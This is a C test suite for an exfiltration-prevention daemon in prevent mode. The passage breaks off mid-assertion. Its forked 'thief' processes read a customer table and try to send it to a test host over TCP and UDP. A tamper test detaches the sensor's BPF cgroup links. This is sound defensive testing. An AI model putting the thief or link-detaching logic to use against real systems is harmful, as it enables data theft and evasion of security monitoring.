// SPDX-License-Identifier: GPL-2.0-only
/*
 * Prevent mode end to end (docs/prevent.md, issue 8), on the sensor under
 * test: a real exfilmond with [policy] mode = prevent, a thief process that
 * reads the watched customer table, and a test host in a network namespace
 * that must receive none of it. Each way out is tried: a new TCP or UDP
 * connection (connect() fails with EPERM), an unconnected datagram (EPERM),
 * and sockets connected before the theft (a UDP send fails with EPERM; a
 * TCP connection is reset, the peer sees the reset and the thief's next
 * send fails). Internal hosts, loopback and a process below the threshold
 * are never refused; detect mode and a reload back to it refuse nothing;
 * the alert says blocked and how much still left.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <poll.h>
#include <sched.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <bpf/bpf.h>
#include <bpf/libbpf.h>
#include "kselftest_harness.h"
#include "customers.h"
#include "daemon_run.h"
#include "testhost.h"

#define CSV_BYTES	(1 << 20)
#define THRESHOLD	(64 << 10)	/* read_threshold: what is refused */
#define PORT		443
#define TESTHOST	34		/* 198.18.34.0/24, 2001:db8:22::/64 */
#define CHUNK		(16 << 10)
#define ALERT_WAIT_S	20
#define TIMEOUT_S	120	/* per test: generous, for qemu without KVM */

struct world {
	long threshold;		/* read_threshold; 0: THRESHOLD */
	char dir[64];
	char csv[128];
	char conf[128];
	char sock[128];
	char log[128];
	long csv_size;
	struct testhost th;
	pid_t daemon;
};

static int write_conf(struct world *e, const char *mode, const char *internal)
{
	char conf[1024];

	snprintf(conf, sizeof(conf),
		 "[watch]\npath = %s\n\n"
		 "[correlation]\nread_threshold = %ld\nsend_threshold = %d\n\n"
		 "[network]\ninternal = %s\n\n"
		 "[policy]\nmode = %s\n\n"
		 "[daemon]\nstate_dir = %s/state\nsocket = %s\n"
		 "group = exfilmon-test-nonexistent\n",
		 e->csv, e->threshold ?: THRESHOLD, THRESHOLD, internal, mode,
		 e->dir, e->sock);
	return write_file(e->conf, conf);
}

static int world_up(struct __test_metadata *_metadata, struct world *e,
		    const char *mode, const char *internal)
{
	if (geteuid())
		SKIP(return 1, "exfilmond needs root");
	strcpy(e->dir, "/tmp/exfilmon-prevent-XXXXXX");
	if (!mkdtemp(e->dir) || chmod(e->dir, 0755))
		return -1;
	snprintf(e->csv, sizeof(e->csv), "%s/customers.csv", e->dir);
	snprintf(e->conf, sizeof(e->conf), "%s/exfilmon.conf", e->dir);
	snprintf(e->sock, sizeof(e->sock), "%s/exfilmon.sock", e->dir);
	snprintf(e->log, sizeof(e->log), "%s/exfilmond.log", e->dir);
	e->csv_size = customers_write(e->csv, CSV_BYTES);
	if (e->csv_size < 0 || write_conf(e, mode, internal) ||
	    testhost_create(&e->th, TESTHOST))
		return -1;
	e->daemon = daemon_start(e->conf, e->sock, e->log);
	if (e->daemon < 0) {
		run("cat %s >&2", e->log);
		testhost_destroy(&e->th);
		return -1;
	}
	return 0;
}

static void world_down(struct world *e)
{
	if (e->daemon > 0)
		daemon_stop(e->daemon);
	e->daemon = 0;
	testhost_destroy(&e->th);
	if (e->dir[0])
		run("rm -rf %s", e->dir);
	e->dir[0] = '\0';
}

#define WORLD_UP(mode, internal) do { \
	int _r = world_up(_metadata, &self->e, (mode), (internal)); \
	if (_r > 0) \
		return; \
	ASSERT_EQ(0, _r); \
} while (0)

/* Read n bytes of path (all of it: -1), as a thief does. 0 or -errno. */
static int take(const char *path, long n)
{
	char buf[CHUNK];
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	ssize_t got = 1;

	if (fd < 0)
		return -errno;
	while (n && got > 0) {
		got = read(fd, buf, n > 0 && n < CHUNK ? n : CHUNK);
		if (got > 0 && n > 0)
			n -= got;
	}
	close(fd);
	return got < 0 ? -errno : 0;
}

static void sin_of(struct sockaddr_storage *ss, socklen_t *len, int family,
		   const char *addr, uint16_t port)
{
	memset(ss, 0, sizeof(*ss));
	if (family == AF_INET) {
		struct sockaddr_in *s = (void *)ss;

		s->sin_family = AF_INET;
		s->sin_port = htons(port);
		inet_pton(AF_INET, addr, &s->sin_addr);
		*len = sizeof(*s);
	} else {
		struct sockaddr_in6 *s = (void *)ss;

		s->sin6_family = AF_INET6;
		s->sin6_port = htons(port);
		inet_pton(AF_INET6, addr, &s->sin6_addr);
		*len = sizeof(*s);
	}
}

/* A socket of type, connected to addr:port; -errno of the failing call. */
static int dial(int family, int type, const char *addr, uint16_t port)
{
	struct sockaddr_storage ss;
	socklen_t len;
	int fd, err;

	fd = socket(family, type | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return -errno;
	sin_of(&ss, &len, family, addr, port);
	if (connect(fd, (void *)&ss, len)) {
		err = -errno;
		close(fd);
		return err;
	}
	return fd;
}

/*
 * Send n bytes of the table's start on fd; bytes accepted, or -errno.
 * Never blocks: a refused TCP socket's buffer fills and stays full, and a
 * blocked thief would hang the test instead of failing it (-EAGAIN).
 */
static long pour(int fd, const char *csv, long n)
{
	char buf[CHUNK];
	long done = 0;
	int in = open(csv, O_RDONLY | O_CLOEXEC);

	if (in < 0)
		return -errno;
	while (done < n) {
		ssize_t got = read(in, buf, n - done < CHUNK ? n - done : CHUNK), k;

		if (got <= 0)
			break;
		k = send(fd, buf, got, MSG_NOSIGNAL | MSG_DONTWAIT);
		if (k < 0 && errno == EAGAIN) {
			struct pollfd p = { .fd = fd, .events = POLLOUT };

			/* a full buffer that does not drain in 3 s is stuck */
			if (poll(&p, 1, 3000) == 1)
				k = send(fd, buf, got, MSG_NOSIGNAL |
					 MSG_DONTWAIT);
		}
		if (k < 0) {
			done = -errno;
			break;
		}
		done += k;
		if (k < got)
			lseek(in, done, SEEK_SET);
	}
	close(in);
	return done;
}

/*
 * A thief: a child that runs fn(arg) after reading want bytes of the
 * table (-1: all), and exits with fn's result (an errno, 0 for success).
 */
struct thief {
	pid_t pid;
	int go[2];	/* the test says when to take each next step */
	int said[2];	/* the child reports each step's result */
};

typedef int (*step_fn)(struct world *e, int step, void *arg);

static int thief_start(struct thief *t, struct world *e, long want,
		       step_fn fn, void *arg)
{
	if (pipe(t->go) || pipe(t->said))
		return -1;
	t->pid = fork();
	if (t->pid < 0)
		return -1;
	if (!t->pid) {
		int step = 0, r;
		char c;

		close(t->go[1]);
		close(t->said[0]);
		r = want ? take(e->csv, want) : 0;
		if (write(t->said[1], &r, sizeof(r)) != sizeof(r))
			_exit(1);
		while (read(t->go[0], &c, 1) == 1) {
			r = fn(e, step++, arg);
			if (write(t->said[1], &r, sizeof(r)) != sizeof(r))
				_exit(1);
		}
		_exit(0);
	}
	close(t->go[0]);
	close(t->said[1]);
	return 0;
}

/* The result of the child's read, or of its next step. */
static int thief_said(struct thief *t)
{
	int r = -EIO;

	if (read(t->said[0], &r, sizeof(r)) != sizeof(r))
		return -EIO;
	return r;
}

static int thief_step(struct thief *t)
{
	if (write(t->go[1], "s", 1) != 1)
		return -EIO;
	return thief_said(t);
}

static void thief_end(struct thief *t)
{
	int status;

	close(t->go[1]);
	close(t->said[0]);
	if (t->pid > 0)
		waitpid(t->pid, &status, 0);
	t->pid = 0;
}

/* exfilctl alerts --json */
static struct json_object *alerts(const struct world *e)
{
	static const char *const args[] = { "alerts", NULL };

	return ctl_json(e->sock, args);
}

static int64_t num(struct json_object *o, const char *key)
{
	struct json_object *v;

	return json_object_object_get_ex(o, key, &v) ?
	       json_object_get_int64(v) : -1;
}

static const char *str(struct json_object *o, const char *key)
{
	struct json_object *v;

	return json_object_object_get_ex(o, key, &v) ?
	       json_object_get_string(v) : "";
}

/* The alert naming host, once there (nr alerts in all); its list. */
static struct json_object *blocked_alert(struct __test_metadata *_metadata,
					 struct world *e, const char *host,
					 size_t nr, struct json_object **a)
{
	struct json_object *arr = NULL;
	size_t i, j;

	*a = NULL;
	for (i = 0; i < ALERT_WAIT_S * 5 && !*a; i++) {
		json_object_put(arr);
		arr = alerts(e);
		for (j = 0; arr && j < json_object_array_length(arr); j++)
			if (!strcmp(str(json_object_array_get_idx(arr, j),
					"host"), host))
				*a = json_object_array_get_idx(arr, j);
		if (!*a)
			usleep(200000);
	}
	ASSERT_NE(NULL, *a) {
		TH_LOG("no alert names %s", host);
		run("tail -n 20 %s >&2", e->log);
		run("%s/exfilctl --socket %s status >&2", build_dir(), e->sock);
	}
	EXPECT_EQ(nr, json_object_array_length(arr));
	return arr;
}

static void expect_blocked(struct __test_metadata *_metadata, struct world *e,
			   const char *host, size_t nr, long left)
{
	struct json_object *a, *arr = blocked_alert(_metadata, e, host, nr, &a);

	EXPECT_STREQ(host, str(a, "host"));
	EXPECT_STREQ("blocked", str(a, "action"));
	EXPECT_LE(1, num(a, "refused"));
	EXPECT_EQ(left, num(a, "bytes_sent")) {
		TH_LOG("alert: %s", json_object_to_json_string(a));
		run("tail -n 40 %s >&2", e->log);
	}
	/* the journal line: who was stopped, to where, why */
	EXPECT_EQ(0, run("grep -q 'prevented: pid .* to \\[\\?%s\\]\\?:%d/' %s",
			 host, PORT, e->log)) {
		run("tail -n 20 %s >&2", e->log);
	}
	json_object_put(arr);
}

FIXTURE(prevent) {
	struct world e;
};

FIXTURE_SETUP(prevent)
{
	memset(&self->e, 0, sizeof(self->e));
}

FIXTURE_TEARDOWN(prevent)
{
	world_down(&self->e);
}

/* step 0: connect over TCP to the host, IPv4 (arg NULL) or IPv6 */
static int connect_step(struct world *e, int step, void *arg)
{
	int fd = arg ? dial(AF_INET6, SOCK_STREAM, e->th.remote6, PORT) :
		       dial(AF_INET, SOCK_STREAM, e->th.remote4, PORT);

	if (fd < 0)
		return -fd;
	close(fd);
	return 0;
}

TEST_F_TIMEOUT(prevent, new_connections_are_refused_with_eperm, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct thief t, t6;

	/* nobody listens: a connect() let through would meet a reset */
	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, thief_start(&t, e, -1, connect_step, NULL));
	ASSERT_EQ(0, thief_said(&t));
	EXPECT_EQ(EPERM, thief_step(&t));
	thief_end(&t);
	/* IPv6 too, from another thief */
	ASSERT_EQ(0, thief_start(&t6, e, -1, connect_step, "v6"));
	ASSERT_EQ(0, thief_said(&t6));
	EXPECT_EQ(EPERM, thief_step(&t6));
	thief_end(&t6);
	/* one alert per host: the IPv4 and the IPv6 address */
	expect_blocked(_metadata, e, e->th.remote4, 2, 0);
	expect_blocked(_metadata, e, e->th.remote6, 2, 0);
}

/* step 0: an unconnected datagram of 1 KiB of the table */
static int dgram_step(struct world *e, int step, void *arg)
{
	struct sockaddr_storage ss;
	char buf[1024];
	socklen_t len;
	int fd, r = 0, in;

	in = open(e->csv, O_RDONLY | O_CLOEXEC);
	if (in < 0 || read(in, buf, sizeof(buf)) != sizeof(buf))
		return EIO;
	close(in);
	fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return errno;
	sin_of(&ss, &len, AF_INET, e->th.remote4, PORT);
	if (sendto(fd, buf, sizeof(buf), 0, (void *)&ss, len) < 0)
		r = errno;
	close(fd);
	return r;
}

/* 5 bytes to the test host's UDP port, from us (never tainted) */
static int marker(struct world *e)
{
	int fd = dial(AF_INET, SOCK_DGRAM, e->th.remote4, PORT), r;

	if (fd < 0)
		return fd;
	r = send(fd, "mark!", 5, 0) == 5 ? 0 : -errno;
	close(fd);
	return r;
}

TEST_F_TIMEOUT(prevent, unconnected_datagrams_are_refused_with_eperm, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct thief t;
	struct sink sk;

	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_DGRAM, PORT, &sk));
	ASSERT_EQ(0, thief_start(&t, e, -1, dgram_step, NULL));
	ASSERT_EQ(0, thief_said(&t));
	EXPECT_EQ(EPERM, thief_step(&t));
	EXPECT_EQ(EPERM, thief_step(&t));
	thief_end(&t);
	/* an untainted marker after them: the sink counts it alone */
	EXPECT_EQ(0, marker(e));
	EXPECT_EQ(5, sink_wait(&sk));
	expect_blocked(_metadata, e, e->th.remote4, 1, 0);
}

/*
 * Sockets connected before the theft: step 0 connects (untainted), step 1
 * reads the table, step 2 sends on the socket, step 3 sends again.
 */
struct early {
	int type;
	int fd;
};

static int early_step(struct world *e, int step, void *arg)
{
	struct early *x = arg;
	long n;

	switch (step) {
	case 0:
		x->fd = dial(AF_INET, x->type, e->th.remote4, PORT);
		if (x->fd < 0)
			return -x->fd;
		/* before any taint: this may go */
		return send(x->fd, "hello", 5, MSG_NOSIGNAL) == 5 ? 0 : errno;
	case 1:
		return -take(e->csv, -1);
	default:
		n = pour(x->fd, e->csv, x->type == SOCK_DGRAM ? 1024 : CHUNK);
		return n < 0 ? (int)-n : 0;
	}
}

TEST_F_TIMEOUT(prevent, connected_udp_socket_is_refused_on_its_next_send, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct early x = { .type = SOCK_DGRAM };
	struct thief t;
	struct sink sk;

	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_DGRAM, PORT, &sk));
	ASSERT_EQ(0, thief_start(&t, e, 0, early_step, &x));
	ASSERT_EQ(0, thief_said(&t));
	ASSERT_EQ(0, thief_step(&t));	/* connected, "hello" sent */
	ASSERT_EQ(0, thief_step(&t));	/* the table read */
	EXPECT_EQ(EPERM, thief_step(&t));
	EXPECT_EQ(EPERM, thief_step(&t));
	thief_end(&t);
	/* only the 5 bytes sent before the theft */
	EXPECT_EQ(5, sink_wait(&sk));
	expect_blocked(_metadata, e, e->th.remote4, 1, 0);
}

/*
 * The eBPF egress hook takes current for the sender only outside softirqs,
 * which it tells per CPU from the softirq tracepoints (bpf/prevent.h). A
 * CPU once wrongly left "in a softirq" let every connected UDP send of a
 * tainted task through. Here each CPU is left so (the pinned map set to 2,
 * as a count that missed two ends would be), must heal at its next
 * softirq (a loopback datagram raises one there), and must then refuse a
 * thief that runs on it.
 */

/* The daemon's pinned object name (a map, or link_PROG): an fd, or -1. */
static int pin_open(struct world *e, const char *name)
{
	const char *pins = daemon_pin_dir(e->daemon);
	char path[256];

	if (!pins) {
		errno = ENOENT;
		return -1;
	}
	snprintf(path, sizeof(path), "%s/%s", pins, name);
	return bpf_obj_get(path);
}

static void softirq_flags_set(struct __test_metadata *_metadata,
			      struct world *e, __u32 v)
{
	__u32 zero = 0, *vals;
	int fd, i, n = libbpf_num_possible_cpus();

	ASSERT_LT(0, n);
	fd = pin_open(e, "softirqs");
	ASSERT_LE(0, fd) TH_LOG("softirqs: %s", strerror(errno));
	/* a per-CPU array's value: one 8-byte slot per possible CPU */
	vals = calloc(n, 8);
	ASSERT_NE(NULL, vals);
	for (i = 0; i < n; i++)
		vals[i * 2] = v;
	EXPECT_EQ(0, bpf_map_update_elem(fd, &zero, vals, BPF_ANY));
	free(vals);
	close(fd);
}

/* This CPU's flag, once a softirq has run here: 0 when healed, or -1. */
static int softirq_flag_healed(struct world *e, int cpu)
{
	__u32 zero = 0, *vals;
	int fd, i, r = -1, n = libbpf_num_possible_cpus();

	fd = pin_open(e, "softirqs");
	vals = n > cpu ? calloc(n, 8) : NULL;
	for (i = 0; fd >= 0 && vals && r && i < 200; i++) {
		int s = dial(AF_INET, SOCK_DGRAM, "127.0.0.1", 9);

		if (s >= 0) {
			send(s, "tick", 4, 0);
			close(s);
		}
		if (!bpf_map_lookup_elem(fd, &zero, vals) && !vals[cpu * 2])
			r = 0;
		else
			usleep(10000);
	}
	free(vals);
	if (fd >= 0)
		close(fd);
	return r;
}

TEST_F_TIMEOUT(prevent, connected_udp_is_refused_on_every_cpu, TIMEOUT_S)
{
	struct world *e = &self->e;
	cpu_set_t all, one;
	int cpu, tried = 0;

	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, sched_getaffinity(0, sizeof(all), &all));
	if (!strcmp(sensor_under_test(), "bpf"))
		softirq_flags_set(_metadata, e, 2);
	for (cpu = 0; cpu < CPU_SETSIZE; cpu++) {
		struct early x = { .type = SOCK_DGRAM };
		struct thief t;
		struct sink sk;

		if (!CPU_ISSET(cpu, &all))
			continue;
		CPU_ZERO(&one);
		CPU_SET(cpu, &one);
		ASSERT_EQ(0, sched_setaffinity(0, sizeof(one), &one));
		if (!strcmp(sensor_under_test(), "bpf"))
			EXPECT_EQ(0, softirq_flag_healed(e, cpu)) {
				TH_LOG("CPU %d still counts as in a softirq",
				       cpu);
			}
		/* the thief, forked here, runs on this CPU only */
		ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_DGRAM, PORT,
					&sk));
		ASSERT_EQ(0, thief_start(&t, e, 0, early_step, &x));
		ASSERT_EQ(0, thief_said(&t));
		ASSERT_EQ(0, thief_step(&t));
		ASSERT_EQ(0, thief_step(&t));
		EXPECT_EQ(EPERM, thief_step(&t)) {
			TH_LOG("a connected UDP send on CPU %d went out", cpu);
		}
		thief_end(&t);
		/* its "hello" from before the theft, and nothing after */
		EXPECT_EQ(5, sink_wait(&sk));
		tried++;
	}
	ASSERT_EQ(0, sched_setaffinity(0, sizeof(all), &all));
	EXPECT_LE(1, tried);
}

/*
 * A TCP receiver on the test host that tells a reset from an end: it
 * accepts one connection and exits with the bytes it got (at most 99),
 * plus 100 when the connection ended in a reset (ECONNRESET).
 */
struct rst_sink {
	int ready[2];
};

static int rst_sink_serve(void *arg)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_port = htons(PORT) };
	struct rst_sink *rs = arg;
	int fd, c, one = 1, got = 0;
	char buf[4096];
	ssize_t n;

	fd = socket(AF_INET, SOCK_STREAM, 0);
	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one,
				 sizeof(one)) ||
	    bind(fd, (void *)&sin, sizeof(sin)) || listen(fd, 1) ||
	    write(rs->ready[1], "r", 1) != 1)
		return 255;
	c = accept(fd, NULL, NULL);
	if (c < 0)
		return 255;
	while ((n = recv(c, buf, sizeof(buf), 0)) > 0)
		got += n;
	if (got > 99)
		return 254;
	return n < 0 && errno == ECONNRESET ? 100 + got : got;
}

static pid_t rst_sink_start(struct testhost *th, struct rst_sink *rs)
{
	pid_t pid;
	char c;

	if (pipe(rs->ready))
		return -1;
	pid = testhost_spawn(th, rst_sink_serve, rs);
	close(rs->ready[1]);
	if (pid < 0 || read(rs->ready[0], &c, 1) != 1)
		pid = -1;
	close(rs->ready[0]);
	return pid;
}

static int rst_sink_wait(pid_t pid)
{
	int status;

	if (waitpid(pid, &status, 0) != pid || !WIFEXITED(status))
		return -1;
	return WEXITSTATUS(status);
}

/*
 * The entries of the eBPF sensor's marked map (refused TCP sockets), once
 * they number want or 2 s have passed; -1 on error.
 */
static int marks_count(struct world *e, int want)
{
	int fd = pin_open(e, "marked"), i, n = -1;
	__u64 key, next;

	for (i = 0; fd >= 0 && n != want && i < 200; i++) {
		void *prev = NULL;

		if (i)
			usleep(10000);
		for (n = 0; !bpf_map_get_next_key(fd, prev, &next); n++) {
			key = next;
			prev = &key;
		}
	}
	if (fd >= 0)
		close(fd);
	return n;
}

TEST_F_TIMEOUT(prevent, open_tcp_connection_is_reset_on_its_next_send, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct early x = { .type = SOCK_STREAM };
	struct rst_sink rs;
	struct thief t;
	pid_t sink;
	int r, i;

	WORLD_UP("prevent", "10.0.0.0/8");
	sink = rst_sink_start(&e->th, &rs);
	ASSERT_LT(0, sink);
	ASSERT_EQ(0, thief_start(&t, e, 0, early_step, &x));
	ASSERT_EQ(0, thief_said(&t));
	ASSERT_EQ(0, thief_step(&t));
	ASSERT_EQ(0, thief_step(&t));
	/*
	 * The first send is accepted into the socket (its packets are
	 * dropped); the daemon then resets the connection: a later send
	 * fails with ECONNABORTED (or EPIPE once the socket is closed).
	 */
	for (i = 0, r = 0; i < 50 && !r; i++) {
		r = thief_step(&t);
		if (!r)
			usleep(100000);
	}
	EXPECT_TRUE(r == ECONNABORTED || r == EPIPE || r == ECONNRESET) {
		TH_LOG("the send after the theft gave %d (%s)", r, strerror(r));
	}
	/*
	 * The reset closed the socket, and its mark stays until the socket
	 * is destroyed: a send's exit after the reset must still see it
	 * (bpf/prevent.h). The thief's exit destroys it.
	 */
	if (!strcmp(sensor_under_test(), "bpf"))
		EXPECT_EQ(1, marks_count(e, 1));
	thief_end(&t);
	if (!strcmp(sensor_under_test(), "bpf"))
		EXPECT_EQ(0, marks_count(e, 0));
	/* the peer saw a reset, after the 5 bytes of before and no more */
	EXPECT_EQ(100 + 5, rst_sink_wait(sink));
	expect_blocked(_metadata, e, e->th.remote4, 1, 0);
}

/* step 0: 256 KiB of src to the host over TCP; step 1: to loopback */
struct upload {
	const char *src;	/* NULL: the table */
	uint16_t lo_port;
};

static int upload_step(struct world *e, int step, void *arg)
{
	struct upload *u = arg;
	int fd = step ? dial(AF_INET, SOCK_STREAM, "127.0.0.1", u->lo_port) :
			dial(AF_INET, SOCK_STREAM, e->th.remote4, PORT);
	long n;

	if (fd < 0)
		return -fd;
	n = pour(fd, u->src ?: e->csv, 256 << 10);
	close(fd);
	return n < 0 ? (int)-n : n == 256 << 10 ? 0 : EIO;
}

/* A loopback listener that drains one connection; its port. */
static pid_t lo_sink(uint16_t *port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET,
				   .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(sin);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	pid_t pid;

	if (fd < 0 || bind(fd, (void *)&sin, sizeof(sin)) || listen(fd, 1) ||
	    getsockname(fd, (void *)&sin, &len))
		return -1;
	*port = ntohs(sin.sin_port);
	pid = fork();
	if (!pid) {
		char buf[CHUNK];
		int c = accept(fd, NULL, NULL);

		while (c >= 0 && read(c, buf, sizeof(buf)) > 0)
			;
		_exit(0);
	}
	close(fd);
	return pid;
}

TEST_F_TIMEOUT(prevent, internal_hosts_and_loopback_are_never_refused, TIMEOUT_S)
{
	struct world *e = &self->e;
	char internal[64];
	struct thief t;
	struct upload u = { 0 };
	struct sink sk;
	pid_t lo;
	int r;

	snprintf(internal, sizeof(internal), "10.0.0.0/8, 198.18.%d.0/24",
		 TESTHOST);
	WORLD_UP("prevent", internal);
	lo = lo_sink(&u.lo_port);
	ASSERT_LT(0, lo);
	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, PORT, &sk));
	ASSERT_EQ(0, thief_start(&t, e, -1, upload_step, &u));
	ASSERT_EQ(0, thief_said(&t));
	r = thief_step(&t);
	EXPECT_EQ(0, r);
	EXPECT_EQ(0, thief_step(&t));
	thief_end(&t);
	if (r)
		kill(sk.pid, SIGKILL);	/* it would wait for a connection */
	EXPECT_EQ(256 << 10, sink_wait(&sk));
	waitpid(lo, NULL, 0);
	/* nothing refused, and internal sends raise nothing */
	sleep(2);
	{
		struct json_object *arr = alerts(e);

		ASSERT_NE(NULL, arr);
		EXPECT_EQ(0, json_object_array_length(arr));
		json_object_put(arr);
	}
}

TEST_F_TIMEOUT(prevent, a_reader_below_the_threshold_is_not_refused, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct thief t;
	struct upload u = { .src = "/dev/zero" };
	struct sink sk;
	int r;

	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, sink_start(&e->th, AF_INET, SOCK_STREAM, PORT, &sk));
	/*
	 * Half the threshold read, then an upload of something else: it
	 * goes. (Uploading the table itself would read more of it, and
	 * cross the threshold on the way.)
	 */
	ASSERT_EQ(0, thief_start(&t, e, THRESHOLD / 2, upload_step, &u));
	ASSERT_EQ(0, thief_said(&t));
	r = thief_step(&t);
	EXPECT_EQ(0, r);
	thief_end(&t);
	if (r)
		kill(sk.pid, SIGKILL);
	EXPECT_EQ(256 << 10, sink_wait(&sk));
}

/* Rewrite the mode and reload through exfilctl; 0 when it took. */
static int switch_mode(struct world *e, const char *mode)
{
	const char *const args[] = { "exfilctl", "--socket", e->sock,
				     "reload", NULL };
	struct cmd_result *r = malloc(sizeof(*r));
	int ret;

	if (!r || write_conf(e, mode, "10.0.0.0/8")) {
		free(r);
		return -1;
	}
	ret = run_prog(r, (uid_t)-1, args) || r->status ? -1 : 0;
	if (ret)
		fprintf(stderr, "# exfilctl reload: %s%s", r->out, r->err);
	free(r);
	return ret;
}

TEST_F_TIMEOUT(prevent, reloading_between_modes_needs_no_restart, TIMEOUT_S)
{
	struct world *e = &self->e;
	struct thief t;
	pid_t daemon;

	WORLD_UP("detect", "10.0.0.0/8");
	daemon = e->daemon;
	ASSERT_EQ(0, thief_start(&t, e, -1, connect_step, NULL));
	ASSERT_EQ(0, thief_said(&t));
	/* detect mode: the same tainted process connects (nobody listens) */
	EXPECT_EQ(ECONNREFUSED, thief_step(&t));
	ASSERT_EQ(0, switch_mode(e, "prevent"));
	EXPECT_EQ(EPERM, thief_step(&t));
	ASSERT_EQ(0, switch_mode(e, "detect"));
	EXPECT_EQ(ECONNREFUSED, thief_step(&t));
	thief_end(&t);
	/* the same daemon throughout */
	EXPECT_EQ(0, kill(daemon, 0));
}

/* exfilctl allow ARGS...; its exit status, or -1 */
static int allow(struct world *e, const char *who, const char *whom,
		 const char *dest, const char *dur)
{
	const char *const args[] = { "exfilctl", "--socket", e->sock, "allow",
				     who, whom, "--dest", dest, "--for", dur,
				     NULL };
	struct cmd_result *r = malloc(sizeof(*r));
	int ret;

	if (!r)
		return -1;
	ret = run_prog(r, (uid_t)-1, args) ? -1 : r->status;
	if (ret)
		fprintf(stderr, "# exfilctl allow: %s%s", r->out, r->err);
	free(r);
	return ret;
}

/* step n: connect over TCP to the host's port ((int *)arg)[n] */
static int dial_step(struct world *e, int step, void *arg)
{
	int fd = dial(AF_INET, SOCK_STREAM, e->th.remote4,
		      ((int *)arg)[step]);

	if (fd < 0)
		return -fd;
	close(fd);
	return 0;
}

/*
 * An override lets exactly the named process to the named destination
 * through, for exactly its duration. Nobody listens on the test host: a
 * connect() let through meets a reset (ECONNREFUSED), a refused one EPERM.
 */
TEST_F_TIMEOUT(prevent, an_override_lets_exactly_its_process_and_dest_through,
	       TIMEOUT_S)
{
	int ports[] = { PORT, PORT + 1, PORT, PORT };
	struct world *e = &self->e;
	char pid[16], dest[64];
	struct thief t, other;
	struct timespec t0, t1;

	WORLD_UP("prevent", "10.0.0.0/8");
	ASSERT_EQ(0, thief_start(&t, e, -1, dial_step, ports));
	ASSERT_EQ(0, thief_said(&t));
	ASSERT_EQ(0, thief_start(&other, e, -1, dial_step, ports));
	ASSERT_EQ(0, thief_said(&other));
	snprintf(pid, sizeof(pid), "%d", (int)t.pid);
	snprintf(dest, sizeof(dest), "%s:%d", e->th.remote4, PORT);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	/* 8 s: under qemu, exfilctl and three dials take 1-2 s of them */
	ASSERT_EQ(0, allow(e, "--pid", pid, dest, "8s"));
	EXPECT_EQ(ECONNREFUSED, thief_step(&t));	/* its port: through */
	EXPECT_EQ(EPERM, thief_step(&t));		/* another port */
	EXPECT_EQ(EPERM, thief_step(&other));		/* another process */
	/* once the 8 s are over, refused again */
	clock_gettime(CLOCK_MONOTONIC, &t1);
	ASSERT_GT(8, t1.tv_sec - t0.tv_sec) {
		TH_LOG("too slow to test the duration");
	}
	sleep(9 - (t1.tv_sec - t0.tv_sec));
	EXPECT_EQ(EPERM, thief_step(&t));
	/* other, forked later, holds t's pipe ends too: it ends first */
	thief_end(&other);
	thief_end(&t);
}

/* An override by executable covers every process of it, on every port. */
TEST_F_TIMEOUT(prevent, an_override_by_executable_covers_its_processes,
	       TIMEOUT_S)
{
	int ports[] = { PORT + 1, PORT };
	struct world *e = &self->e;
	char exe[4096];
	struct thief t;
	ssize_t n;

	WORLD_UP("prevent", "10.0.0.0/8");
	n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	ASSERT_LT(0, n);
	exe[n] = '\0';
	ASSERT_EQ(0, thief_start(&t, e, -1, dial_step, ports));
	ASSERT_EQ(0, thief_said(&t));
	EXPECT_EQ(EPERM, thief_step(&t));
	ASSERT_EQ(0, allow(e, "--exe", exe, e->th.remote4, "1min"));
	EXPECT_EQ(ECONNREFUSED, thief_step(&t));
	thief_end(&t);
}

/*
 * Root detaches the cgroup links (BPF_LINK_DETACH works for them): the
 * self-check (every 5 s) finds it, says so, and attaches new ones.
 */
TEST_F_TIMEOUT(prevent, detached_cgroup_links_are_found_and_mended,
	       TIMEOUT_S)
{
	const char *const status[] = { "status", NULL };
	struct world *e = &self->e;
	struct json_object *st = NULL, *t;
	const char *pins;
	struct thief th;
	int i, events = 0;

	if (!strcmp(sensor_under_test(), "kmod"))
		SKIP(return, "exfilmon.ko has no cgroup links: its hooks "
		     "change only by unloading it");
	WORLD_UP("prevent", "10.0.0.0/8");
	pins = daemon_pin_dir(e->daemon);
	ASSERT_NE(NULL, pins);
	for (i = 0; i < 2; i++) {
		const char *link = i ? "link_prevent_egress" :
				       "link_prevent_connect4";
		int fd = pin_open(e, link);

		ASSERT_LE(0, fd) TH_LOG("%s: %s", link, strerror(errno));
		EXPECT_EQ(0, bpf_link_detach(fd));
		close(fd);
	}
	for (i = 0; i < 60 && events < 2; i++) {
		json_object_put(st);
		usleep(200000);
		st = ctl_json(e->sock, status);
		if (st && json_object_object_get_ex(st, "tamper", &t))
			events = num(t, "mended");
	}
	ASSERT_NE(NULL, st);
	EXPECT_LE(2, events);
	ASSERT_TRUE(json_object_object_get_ex(st, "tamper", &t));
	EXPECT_NE(NULL, strstr(str(t, "last"), "prevent_connect4 was "
			       "detached")) {
